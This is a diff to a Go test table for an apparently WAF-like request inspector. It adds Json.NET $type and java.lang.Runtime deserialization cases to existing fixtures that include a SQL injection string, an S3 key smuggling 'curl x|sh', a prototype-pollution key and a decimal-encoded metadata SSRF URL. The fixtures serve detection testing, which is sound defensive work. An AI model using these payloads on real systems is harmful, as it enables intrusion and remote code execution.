@@ -86,6 +86,8 @@ var recordCases = []struct {
 	{"sqli", source.Record{Fields: []source.Field{{Name: "body.id", Value: "1' or '1'='1"}}}, true, 942100, "body.id"},
 	{"s3 key shell", source.Record{Fields: []source.Field{{Name: "s3.object.key", Value: "img;curl x|sh.png"}}}, true, 100160, "s3.object.key"},
 	{"proto pollution key", source.Record{Fields: []source.Field{{Name: "body.__proto__.admin", Value: "true"}}}, true, 100130, "body.__proto__.admin"},
+	{"json.net type", source.Record{Fields: []source.Field{{Name: "body.obj.$type", Value: "System.Windows.Data.ObjectDataProvider, PresentationFramework"}}}, true, 100121, "body.obj.$type"},
+	{"java class in a key", source.Record{Fields: []source.Field{{Name: `body.java\.lang\.Runtime`, Value: "x"}}}, true, 944130, `body.java\.lang\.Runtime`},
 	{"json keys that spell dotfiles", source.Record{Fields: []source.Field{{Name: "dynamodb.NewImage.profile.name", Value: "Ada"}, {Name: "body.history[0].credentials", Value: "x"}}}, false, 0, ""},
 	{"metadata ssrf decimal", source.Record{Fields: []source.Field{{Name: "body.url", Value: "http://2852039166/latest/meta-data/"}}}, true, 100110, "body.url"},
 	{"depth bound", source.Record{Violations: []source.Violation{{Bound: source.BoundDepth, Path: "body.a"}}}, true, RuleDepth, "body.a"},
